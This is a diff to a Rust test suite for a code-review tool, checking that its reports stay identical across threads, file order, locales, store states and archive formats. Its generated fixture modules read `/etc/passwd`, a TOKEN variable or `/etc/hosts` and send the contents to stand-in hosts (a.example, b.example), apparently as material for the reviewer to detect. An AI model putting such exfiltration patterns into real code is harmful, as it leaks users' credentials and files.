@@ -1,9 +1,12 @@
 //! The same submission gives the same bytes of report: at any number of threads, in any directory order,
-//! with a cold, a warm and a damaged store, whatever the surroundings.
+//! with a cold and a warm store, whatever the surroundings; and whatever it came in, the same but for its source.
 
 use std::fs;
 use std::path::{Path, PathBuf};
 
+use serde_json::Value;
+
+use super::intake_support::{git, run, write};
 use super::review_run::Review;
 
 fn acme() -> PathBuf {
@@ -24,34 +27,158 @@ fn files(root: &Path) -> Vec<PathBuf> {
     found
 }
 
-/// A copy whose files come into being in reverse order, which many file systems then list them in.
-fn reversed(to: &Path) {
-    for path in files(&acme()).iter().rev() {
-        let target = to.join(path);
+/// A copy whose files come into being in another order, in which many file systems then list them.
+fn shuffled(from: &Path, to: &Path) {
+    let mut paths = files(from);
+    paths.sort_by_key(|path| candor::base::Digest::of(path.as_os_str().as_encoded_bytes()));
+    for path in paths {
+        let target = to.join(&path);
         fs::create_dir_all(target.parent().expect("a parent")).expect("a folder");
-        fs::copy(acme().join(path), target).expect("a copy");
+        fs::copy(from.join(&path), target).expect("a copy");
+    }
+}
+
+/// A tree of 60 modules in two languages that call each other in circles and across folders, with names and
+/// bytes that invite an order, a locale or a thread to show.
+fn generated(root: &Path) {
+    for number in 0..40 {
+        let (next, other) = ((number + 1) % 40, (number * 7 + 3) % 40);
+        let leak = match number % 4 {
+            0 => "    requests.post('https://a.example/' + str(depth), data=found)\n",
+            1 => "    socket.create_connection(('b.example', 80)).sendall(found.encode())\n",
+            _ => "",
+        };
+        let source = match number % 3 {
+            0 => "open('/etc/passwd').read()",
+            1 => "os.environ.get('TOKEN', '')",
+            _ => "str(depth)",
+        };
+        let text = format!(
+            "import os, socket, requests\nfrom pkg{p}.m{next} import work as onward\nimport pkg{q}.m{other}\n\n\n\
+             class Worker{number}:\n    def __init__(self):\n        self.held = {source}\n\n    def run(self, depth):\n        \
+             return onward(self.held, depth - 1)\n\n\ndef work(found, depth):\n    if depth < 0:\n        \
+             return pkg{q}.m{other}.Worker{other}().run(depth)\n    found = found + {source}\n{leak}    return found\n",
+            p = next % 5,
+            q = other % 5,
+        );
+        write(root, &format!("pkg{}/m{number}.py", number % 5), text.as_bytes());
+    }
+    for number in 0..20 {
+        let text = format!(
+            "#include <stdio.h>\n#include <sys/socket.h>\n#include \"all.h\"\n\nint step{number}(int fd, char *out, int size) {{\n    \
+             FILE *in = fopen(\"/etc/hosts\", \"r\");\n    int got = fread(out, 1, size, in);\n    if (size > {number}) \
+             return step{next}(fd, out, size - 1);\n    return send(fd, out, got, 0);\n}}\n",
+            next = (number + 1) % 20,
+        );
+        write(root, &format!("c/step{number}.c"), text.as_bytes());
+    }
+    let header: String = (0..20).map(|number| format!("int step{number}(int fd, char *out, int size);\n")).collect();
+    write(root, "c/all.h", header.as_bytes());
+    write(root, "odd names/I\u{131}\u{130}i.py", b"import os\nprint(os.environ)\n");
+    write(root, "odd names/na\u{ef}ve \u{3bb}.c", b"int x;\n");
+    write(root, "odd names/latin.py", b"# caf\xe9\nx = 1\n");
+    write(root, "odd names/B.txt", b"b\n");
+    write(root, "odd names/a.txt", b"a\n");
+    write(root, "broken/soup.c", "{<".repeat(40_000).as_bytes());
+    write(root, "broken/zeros.py", b"x = 1\n\0\0\0\0\0\0\0\0\0\0");
+    write(root, "broken/empty.py", b"");
+}
+
+/// Runs the matrix of threads, order, store and surroundings.
+fn unchanging(root: &Path) {
+    let expected = Review::of(root).arg("--no-store").arg("--jobs=1").run().report_bytes();
+    let scratch = tempfile::tempdir().expect("a scratch folder");
+    let copy = scratch.path().join("another-name");
+    shuffled(root, &copy);
+    let home = scratch.path().join("un autre chez-soi");
+    fs::create_dir(&home).expect("a folder");
+    let store = format!("--store={}", scratch.path().join("store").display());
+    let parent = root.parent().expect("a parent");
+    let relative = Path::new(root.file_name().expect("a name"));
+    let runs = [
+        ("two threads", Review::of(root).arg("--no-store").arg("--jobs=2")),
+        ("eight threads, another place and directory order", Review::of(&copy).arg("--no-store").arg("--jobs=8")),
+        (
+            "another zone, locale, terminal and home",
+            Review::of(root)
+                .env("TZ", "Asia/Kolkata")
+                .env("LC_ALL", "tr_TR.UTF-8")
+                .env("LANG", "tr_TR.UTF-8")
+                .env("TERM", "xterm-256color")
+                .env("CLICOLOR_FORCE", "1")
+                .env("COLUMNS", "20")
+                .env("RAYON_NUM_THREADS", "3")
+                .env("HOME", &home),
+        ),
+        ("a relative path and another directory to work in", Review::of(relative).current_dir(parent).arg("--no-store")),
+        ("a strict umask", Review::of(root).arg("--no-store").after("umask 077")),
+        ("an open umask and a cold store", Review::of(root).arg(&store).arg("--jobs=2").after("umask 000")),
+        ("a warm store", Review::of(&copy).arg(&store).arg("--jobs=8")),
+    ];
+    for (what, review) in runs {
+        let review = review.run();
+        assert!(review.report_bytes() == expected, "{what} changed the report");
     }
 }
 
 #[test]
-fn a_report_depends_on_the_submission_alone() {
-    let expected = Review::of(&acme()).arg("--no-store").arg("--jobs=1").run().report_bytes();
+fn the_report_of_a_product_depends_on_the_submission_alone() {
+    unchanging(&acme());
+}
+
+#[test]
+fn the_report_of_a_tangled_tree_depends_on_the_submission_alone() {
     let scratch = tempfile::tempdir().expect("a scratch folder");
-    let copy = scratch.path().join("another-name");
-    reversed(&copy);
-    let store = scratch.path().join("store");
-    let store = || format!("--store={}", store.display());
-    let runs = [
-        ("two threads", Review::of(&acme()).arg("--no-store").arg("--jobs=2")),
-        ("eight threads", Review::of(&acme()).arg("--no-store").arg("--jobs=8")),
-        ("another place and directory order", Review::of(&copy).arg("--no-store")),
-        ("other surroundings", Review::of(&acme()).env("TZ", "Asia/Kolkata").env("LC_ALL", "tr_TR.UTF-8").env("TERM", "xterm")),
-        ("a cold store", Review::of(&acme()).arg(store())),
-        ("a warm store", Review::of(&acme()).arg(store()).arg("--jobs=8")),
+    let root = scratch.path().join("tangle");
+    generated(&root);
+    unchanging(&root);
+}
+
+/// The report without the one part that says what was received; that part by itself.
+fn apart(report: &[u8]) -> (Value, Value) {
+    let mut report: Value = serde_json::from_slice(report).expect("JSON");
+    let source = report.as_object_mut().and_then(|report| report.remove("source")).expect("a source");
+    (report, source)
+}
+
+#[test]
+fn what_a_submission_comes_in_shows_in_its_source_alone() {
+    let scratch = tempfile::tempdir().expect("a scratch folder");
+    let root = scratch.path().join("product");
+    generated(&root);
+    let names: Vec<_> = fs::read_dir(&root).expect("a folder").map(|entry| entry.expect("an entry").file_name()).collect();
+    let names: Vec<&str> = names.iter().map(|name| name.to_str().expect("UTF-8")).collect();
+    let bare = scratch.path().join("bare");
+    shuffled(&root, &bare);
+    run(&root, "tar", &[&["-cf", "../product.tar"], &names[..]].concat());
+    run(&root, "tar", &[&["-czf", "../product.tar.gz"], &names[..]].concat());
+    python_zip(&root);
+    git(&bare, &["init", "-q", "-b", "main"]);
+    git(&bare, &["add", "-A", "-f"]);
+    git(&bare, &["commit", "-q", "-m", "all"]);
+    git(&bare, &["bundle", "create", "-q", "../product.bundle", "main"]);
+
+    let (expected, directory) = apart(&Review::of(&root).run().report_bytes());
+    let forms = [
+        ("archive", Review::of(&scratch.path().join("product.tar"))),
+        ("archive", Review::of(&scratch.path().join("product.tar.gz"))),
+        ("archive", Review::of(&scratch.path().join("product.zip"))),
+        ("git-bundle", Review::of(&scratch.path().join("product.bundle"))),
+        ("git", Review::of(&bare).arg("--ref=main")),
     ];
-    for (what, review) in runs {
-        assert!(review.run().report_bytes() == expected, "{what} changed the report");
+    for (kind, review) in forms {
+        let review = review.arg("--no-store").run();
+        let (report, source) = apart(&review.report_bytes());
+        assert_eq!(source["kind"], kind, "{}", review.stderr);
+        assert_eq!(report["coverage"], expected["coverage"], "{kind}");
+        assert_eq!(report, expected, "{kind}");
+        assert_eq!((&source["manifest"], &source["tree"]), (&directory["manifest"], &directory["tree"]), "{kind}");
     }
+}
+
+/// A zip archive of `root` beside it.
+fn python_zip(root: &Path) {
+    run(root, "python3", &["-c", "import shutil; shutil.make_archive('../product', 'zip', '.')"]);
 }
 
 #[test]
@@ -62,27 +189,60 @@ fn the_product_is_on_standard_output_and_nothing_else() {
     assert_eq!((quiet.stdout.as_str(), quiet.code), ("", 1));
 }
 
+/// The key file is for its owner alone, whatever the umask.
+#[test]
+fn a_key_made_on_first_use_is_its_owners_alone() {
+    use std::os::unix::fs::PermissionsExt as _;
+    let home = tempfile::tempdir().expect("a scratch folder");
+    let review = Review::of(&acme()).env("HOME", home.path()).after("umask 000").run();
+    assert!(review.stderr.contains("made a signing key"), "{}", review.stderr);
+    let mode = |path: &str| fs::metadata(home.path().join(path)).expect(path).permissions().mode() & 0o777;
+    assert_eq!((mode(".local/share/candor"), mode(".local/share/candor/auditor.pem")), (0o700, 0o600));
+    let again = Review::of(&acme()).env("HOME", home.path()).run();
+    assert!(!again.stderr.contains("made a signing key"), "{}", again.stderr);
+}
+
 #[test]
 fn what_cannot_be_done_is_said_with_a_next_step() {
     let scratch = tempfile::tempdir().expect("a scratch folder");
-    let occupied = scratch.path().join("notes.candor");
+    let scratch = scratch.path();
+    let occupied = scratch.join("notes.candor");
     fs::write(&occupied, "mine").expect("a file");
-    let nowhere = scratch.path().join("nowhere");
+    let text = scratch.join("notes.txt");
+    fs::write(&text, "not an archive").expect("a file");
+    let nowhere = scratch.join("nowhere");
     let inside = acme().join("x.candor");
+    let pack = scratch.join("old.candor");
+    fs::create_dir(&pack).expect("a folder");
+    fs::write(pack.join("attestation.dsse.json"), "{}").expect("a file");
+    let alias = scratch.join("alias");
+    std::os::unix::fs::symlink(&pack, &alias).expect("a link");
     let runs = [
-        (Review::of(&nowhere), "no such file"),
+        (Review::of(&nowhere), "cannot find"),
+        (Review::of(&text), "neither a git bundle nor a tar or zip archive"),
+        (Review::of(&pack), "is a pack, not a submission"),
+        (Review::of(&alias).output(&pack), "would replace the submission"),
         (Review::of(&acme()).output(&occupied), "is not a pack"),
-        (Review::of(&acme()).output(&scratch.path().join("notes.txt")), "is not the name of a pack"),
+        (Review::of(&acme()).output(&scratch.join("notes.txt")), "is not the name of a pack"),
+        (Review::of(&acme()).output(&scratch.join("no/such/x.candor")), "there is no directory"),
         (Review::of(&acme()).output(&inside), "inside the submission"),
         (Review::of(&acme()).arg("--ref=HEAD"), "not a git repository"),
         (Review::of(&acme()).arg(format!("--key={}", nowhere.display())), "nowhere"),
+        (Review::of(&acme()).arg(format!("--key={}", text.display())), "not a PEM file"),
+        (Review::of(&acme()).arg("--jobs=4000000000"), "4000000000 is not in"),
     ];
     for (review, expected) in runs {
         let review = review.run();
         assert_eq!(review.code, 2, "{expected}: {}", review.stderr);
-        assert!(review.stderr.contains(expected) && review.stderr.contains("help: "), "{expected}: {}", review.stderr);
+        let next = review.stderr.contains("help: ") || review.stderr.contains("--help");
+        assert!(review.stderr.contains(expected) && next, "{expected}: {}", review.stderr);
         assert!(review.stdout.is_empty());
     }
     assert_eq!(fs::read_to_string(&occupied).expect("still there"), "mine");
     assert!(!inside.exists());
+    // No key is made for a submission that is not there.
+    let home = scratch.join("home");
+    fs::create_dir(&home).expect("a folder");
+    assert_eq!(Review::of(&nowhere).env("HOME", &home).run().code, 2);
+    assert!(fs::read_dir(&home).expect("a folder").next().is_none());
 }
